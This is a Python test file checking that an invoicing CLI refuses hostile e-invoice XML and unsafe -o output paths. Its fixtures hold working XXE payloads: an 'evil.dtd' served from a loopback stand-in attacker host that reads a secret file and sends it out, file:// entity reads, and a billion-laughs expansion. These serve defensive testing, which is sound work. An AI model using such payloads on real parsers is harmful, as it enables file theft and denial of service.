"""Hostile and careless files through the real `invoicing` command.

XML from outside: a received e-invoice whose XML (or XMP) declares a DOCTYPE or entities
is refused on one line before any parser reads it: no DTD is fetched from the HTTP
listener the test starts, no local file is read, nothing expands.

`-o`: a name the file system would refuse is one line and exit 2 before any work, and
--force never replaces a file of a billing run.
"""

from __future__ import annotations

import hashlib
import http.server
import io
import json
import os
import subprocess
import threading
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pikepdf
import pytest

from tests.support.einvoices import cii_xml, hybrid_carrying
from tests.support.envs import Env
from tests.support.factories import initialized, seed_fixtures
from tests.support.runs import invoices_of, run_json

SECRET = "the-secret-the-attacker-wants-7f3a91"
PERIOD = "2026-10"

# --- XML from outside -------------------------------------------------------------------------


@dataclass
class Listener:
    """An HTTP server on loopback, as an attacker's: it serves evil.dtd, which reads the
    secret file and sends its contents back in a second request, and records every
    request it gets."""

    port: int
    requests: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


@pytest.fixture
def listener(secret: Path) -> Iterator[Listener]:
    found: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            found.append(self.path)  # before answering: the asker waits for the answer
            here = f"http://127.0.0.1:{self.server.server_address[1]}"
            body = (
                f'<!ENTITY % file SYSTEM "file://{secret}">'
                f"<!ENTITY % send \"<!ENTITY &#x25; leak SYSTEM '{here}/leak?%file;'>\">"
                "%send; %leak;"
            ).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/xml-dtd")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    heard = Listener(server.server_address[1], found)
    # The listener answers (else a test that sees no request proves nothing); this probe
    # is the one request it may record.
    with urllib.request.urlopen(f"{heard.url}/probe", timeout=10) as answer:
        assert b"%leak;" in answer.read()
    try:
        yield heard
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def with_doctype(xml: bytes, doctype: str) -> bytes:
    """The XML with `doctype` right after its XML declaration."""
    declaration, rest = xml.split(b"?>", 1)
    return declaration + b"?>\n" + doctype.encode() + rest


def received(tmp_path: Path, xml: bytes, container: str) -> Path:
    """The XML as a received file: inside a hybrid PDF made by the project's own path,
    or as a CII XML file of its own."""
    path = tmp_path / f"received.{container}"
    path.write_bytes(hybrid_carrying(xml) if container == "pdf" else xml)
    return path


def assert_refused_on_one_line(env: Env, path: Path, reason: str) -> None:
    """`validate` judges the file invalid (exit 1, as for any invalid e-invoice) on one
    line naming `reason`, with no secret and no traceback anywhere."""
    proc = env.cli("validate", str(path))
    assert proc.returncode == 1, (proc.returncode, proc.stdout, proc.stderr)
    assert SECRET not in proc.stdout + proc.stderr
    assert proc.stderr == ""
    (line,) = proc.stdout.splitlines()
    assert line.startswith("XML: ") and reason in line, line


@pytest.mark.parametrize("container", ["pdf", "xml"])
def test_an_external_parameter_entity_fetches_nothing_and_reads_no_file(
    env: Env, tmp_path: Path, listener: Listener, container: str
) -> None:
    # given a received e-invoice whose XML pulls in the attacker's DTD, which would read
    # the secret file and send it to the listener
    xml = with_doctype(
        cii_xml(),
        f'<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY % remote SYSTEM "{listener.url}/evil.dtd"> %remote;]>',
    )
    path = received(tmp_path, xml, container)

    # when it is validated, it is refused on one line
    assert_refused_on_one_line(env, path, "declares a DOCTYPE")

    # and the listener heard nothing but the test's own probe
    assert listener.requests == ["/probe"]


@pytest.mark.parametrize("container", ["pdf", "xml"])
def test_an_external_general_entity_reads_no_local_file(
    env: Env, tmp_path: Path, secret: Path, container: str
) -> None:
    # given a received e-invoice whose seller name is the secret file, by entity
    xml = with_doctype(
        cii_xml().replace(b"<ram:Name>Nordlicht Telecom GmbH</ram:Name>", b"<ram:Name>&secret;</ram:Name>"),
        f'<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY secret SYSTEM "file://{secret}">]>',
    )
    assert b"&secret;" in xml
    path = received(tmp_path, xml, container)

    # when / then it is refused unread, the secret nowhere
    assert_refused_on_one_line(env, path, "declares a DOCTYPE")


def test_entities_that_would_expand_a_billion_times_are_refused_before_they_expand(
    env: Env, tmp_path: Path
) -> None:
    # given the "billion laughs": ten levels of ten internal entities each
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{"".join([f"&lol{n - 1};"] * 10)}">' for n in range(1, 10)
    ]
    xml = with_doctype(
        cii_xml().replace(b"<ram:Name>Nordlicht Telecom GmbH</ram:Name>", b"<ram:Name>&lol9;</ram:Name>"),
        f"<!DOCTYPE rsm:CrossIndustryInvoice [{''.join(levels)}]>",
    )

    # when / then: one line, no traceback, nothing expanded
    assert_refused_on_one_line(env, received(tmp_path, xml, "pdf"), "declares a DOCTYPE")


def test_an_entity_reference_without_a_doctype_is_refused_naming_it(env: Env, tmp_path: Path) -> None:
    # given an XML that refers to an entity nobody declared (only the five XML
    # predefines and character references are read)
    xml = cii_xml().replace(b"<ram:Name>Nordlicht Telecom GmbH</ram:Name>", b"<ram:Name>&nbsp;</ram:Name>")

    # when / then
    assert_refused_on_one_line(env, received(tmp_path, xml, "pdf"), "refers to an entity")


@pytest.mark.parametrize("encoding", ["UTF-7", "UTF-32", "Shift_JIS", "EBCDIC-US"])
@pytest.mark.parametrize("container", ["pdf", "xml"])
def test_an_xml_in_an_encoding_the_gate_does_not_read_is_refused_on_one_line(
    env: Env, tmp_path: Path, container: str, encoding: str
) -> None:
    # given a received e-invoice that declares a multi-byte or an unknown encoding,
    # which the standard library's expat refuses with a bare ValueError or LookupError
    declaration, rest = cii_xml().split(b"?>", 1)
    xml = f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + rest
    assert declaration.startswith(b"<?xml")

    # when / then: judged invalid on one line, as any XML that is not read
    assert_refused_on_one_line(env, received(tmp_path, xml, container), "declares an encoding other than")


@pytest.mark.parametrize(
    ("inner", "reason"),
    [
        (b"<a>" * 300 + b"</a>" * 300, "Excessive depth in document: 256"),
        (b'<a b="' + b"x" * 11_000_000 + b'"/>', "Buffer size limit exceeded"),
    ],
)
def test_an_xml_beyond_the_parser_s_limits_is_refused_on_one_line(
    env: Env, tmp_path: Path, inner: bytes, reason: str
) -> None:
    # given a received CII XML nested past libxml2's depth limit, or with an attribute
    # past its size limit (whose message ends in a line break)
    xml = cii_xml().replace(b"</rsm:CrossIndustryInvoice>", inner + b"</rsm:CrossIndustryInvoice>")

    # when / then: judged invalid on one line, in the user's terms (no parser option)
    assert_refused_on_one_line(env, received(tmp_path, xml, "xml"), reason)
    assert "XML_PARSE_HUGE" not in env.cli("validate", str(tmp_path / "received.xml")).stdout


def test_a_refused_xml_is_one_json_object_too(env: Env, tmp_path: Path, secret: Path) -> None:
    # given a received e-invoice with an external entity
    xml = with_doctype(cii_xml(), f'<!DOCTYPE r [<!ENTITY secret SYSTEM "file://{secret}">]>')

    # when it is validated with --json
    proc = env.cli("validate", str(received(tmp_path, xml, "pdf")), "--json")

    # then one object says it is invalid by rule XML, with nothing checked
    report = json.loads(proc.stdout)
    assert proc.returncode == 1 and SECRET not in proc.stdout + proc.stderr
    assert (report["valid"], report["rules"], report["checked"]) == (False, ["XML"], [])
    assert "declares a DOCTYPE" in report["violations"][0]["message"]


def test_a_hybrid_whose_xmp_declares_a_doctype_fetches_nothing(
    env: Env, tmp_path: Path, listener: Listener
) -> None:
    # given a received hybrid whose XML is sound, and whose XMP packet pulls in the
    # attacker's DTD
    hybrid = hybrid_carrying(cii_xml())
    with pikepdf.open(io.BytesIO(hybrid)) as doc:
        packet = doc.Root.Metadata.read_bytes()
        head, rest = packet.split(b"?>", 1)
        doctype = f'<!DOCTYPE x:xmpmeta [<!ENTITY % remote SYSTEM "{listener.url}/evil.dtd"> %remote;]>'
        doc.Root.Metadata = pikepdf.Stream(doc, head + b"?>" + doctype.encode() + rest)
        buffer = io.BytesIO()
        doc.save(buffer, fix_metadata_version=False)  # (True would rewrite the packet)
    path = tmp_path / "received.pdf"
    path.write_bytes(buffer.getvalue())

    # when it is validated
    proc = env.cli("validate", str(path))

    # then the XMP is one finding, and the listener heard nothing but the probe
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    finding = "invoicing:hybrid-xmp: XMP metadata: refused: the XML declares a DOCTYPE"
    assert any(line.startswith(finding) for line in proc.stdout.splitlines()), proc.stdout
    assert listener.requests == ["/probe"]


# --- -o ----------------------------------------------------------------------------------------


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def output_args(command: str, output: Path, *more: str) -> list[str]:
    """`command` writing `output`: one invoice, a merge of two, or run 1's export."""
    return {
        "render": ["render", "--account", "A-0001", "--period", PERIOD, "-o", str(output), *more],
        "merge": ["merge", "--accounts", "A-0001,A-0002", "--period", PERIOD, "-o", str(output), *more],
        "export": ["export", "1", "-o", str(output), *more],
    }[command]


def assert_one_line_exit_2(proc: subprocess.CompletedProcess[str], *expected: str) -> None:
    assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("invoicing: error: -o "), lines
    assert all(text in lines[0] for text in expected), lines[0]


@pytest.mark.parametrize("command", ["render", "merge", "export"])
def test_force_never_replaces_a_stored_invoice(env: Env, command: str) -> None:
    # given a completed run and one of its invoices
    seed_fixtures(env)
    run_json(env, "--period", PERIOD)
    stored = Path(invoices_of(1)[0].pdf_path or "")
    before = sha256(stored)

    # when a command is told to write over it, with --force
    proc = env.cli(*output_args(command, stored, "--force"))

    # then it is refused on one line, and the file is what the run recorded
    assert_one_line_exit_2(proc, "belongs to the billing runs")
    assert sha256(stored) == before == invoices_of(1)[0].sha256


def test_a_stored_invoice_reached_through_a_symlink_or_dots_is_refused(env: Env, tmp_path: Path) -> None:
    # given a completed run, and two other names for one of its invoices
    seed_fixtures(env)
    run_json(env, "--period", PERIOD)
    stored = Path(invoices_of(1)[0].pdf_path or "")
    before = sha256(stored)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "link").symlink_to(stored.parent, target_is_directory=True)
    # (relative to the folder the command runs in, env.path)
    dotted = Path("elsewhere", "..", os.path.relpath(stored, env.path))
    names = [tmp_path / "link" / stored.name, dotted]

    # when / then: each is refused
    for name in names:
        proc = env.cli("export", "1", "-o", str(name), "--force")
        assert_one_line_exit_2(proc, str(name), "belongs to the billing runs")
    assert sha256(stored) == before


@pytest.mark.parametrize("target", ["invoice", "first volume", "last volume", "manifest"])
def test_a_run_s_files_stay_protected_after_the_output_folder_moved(
    env: Env, tmp_path: Path, target: str
) -> None:
    # given a run merged into volumes, and then the output folder moved elsewhere
    seed_fixtures(env)
    run_json(env, "--period", PERIOD, INVOICING_VOLUME_MAX_PAGES="8")
    volumes = sorted((tmp_path / "output" / PERIOD).glob("billing-run-1-vol-*.pdf"))
    assert len(volumes) >= 2
    file = {
        "invoice": Path(invoices_of(1)[3].pdf_path or ""),
        "first volume": volumes[0],
        "last volume": volumes[-1],
        "manifest": tmp_path / "output" / PERIOD / "billing-run-1-manifest.csv",
    }[target]
    before = sha256(file)

    # when the export is told to write over one of the run's files, with --force
    proc = env.cli("export", "1", "-o", str(file), "--force", INVOICING_OUTPUT_DIR=str(tmp_path / "moved"))

    # then the database's record refuses it
    assert_one_line_exit_2(proc, str(file), "--force never replaces a billing run's files")
    assert sha256(file) == before


def test_a_new_file_inside_the_output_folder_is_refused(env: Env) -> None:
    # given a completed run
    seed_fixtures(env)
    run_json(env, "--period", PERIOD)
    inside = env.path / "output" / PERIOD / "export.zip"

    # when an export is asked to go into the run's folder
    proc = env.cli("export", "1", "-o", str(inside))

    # then it is refused, and nothing is written there
    assert_one_line_exit_2(proc, "is inside the output folder")
    assert not inside.exists()


@pytest.mark.parametrize("command", ["render", "merge", "export"])
def test_an_output_the_file_system_would_refuse_is_one_line_before_any_work(
    env: Env, tmp_path: Path, command: str
) -> None:
    # given a database and no data: render, merge and export would each find nothing to
    # work on, so a refusal naming -o shows it came first
    initialized(env)
    before = sorted(tmp_path.iterdir())
    cases = [
        (tmp_path / ("n" * 300 + ".pdf"), "file name too long (304 bytes"),
        (tmp_path / ("d" * 300) / "x.pdf", "folder name too long (300 bytes"),
        (tmp_path / "missing" / "x.pdf", "does not exist"),
        (tmp_path, "is a directory"),
    ]

    for output, reason in cases:
        # when
        proc = env.cli(*output_args(command, output))

        # then one line naming the path and the reason, exit 2, nothing written
        assert_one_line_exit_2(proc, f"-o {tmp_path}", reason)
        assert "Traceback" not in proc.stderr
    assert sorted(tmp_path.iterdir()) == before
